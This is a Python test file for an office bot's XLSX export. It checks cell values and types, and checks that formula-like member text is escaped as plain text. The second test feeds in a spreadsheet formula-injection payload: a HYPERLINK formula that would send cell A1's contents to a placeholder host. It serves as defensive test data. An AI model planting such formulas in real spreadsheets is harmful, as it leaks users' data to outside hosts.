"""The office's XLSX files read back as the office's spreadsheet program would."""

from __future__ import annotations

import io
from datetime import date, datetime

import openpyxl

from bot.xlsx_export import xlsx_bytes


def _cells(data: bytes) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def test_a_workbook_has_the_header_and_the_rows_with_their_types() -> None:
    data = xlsx_bytes(
        ["ref", "seats", "created", "day", "note"],
        [["L-2026-0001", 3, datetime(2026, 12, 2, 9, 30), date(2026, 12, 3), "Jena – Köln"]],
    )
    header, row = _cells(data)
    assert header == ("ref", "seats", "created", "day", "note")
    assert row == (
        "L-2026-0001",
        3,
        datetime(2026, 12, 2, 9, 30),
        datetime(2026, 12, 3),
        "Jena – Köln",
    )


def test_a_member_text_that_looks_like_a_formula_stays_text() -> None:
    data = xlsx_bytes(["organisation"], [['=HYPERLINK("http://x/?"&A1,"Click")'], [None]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == '\'=HYPERLINK("http://x/?"&A1,"Click")'
    assert sheet["A3"].value is None
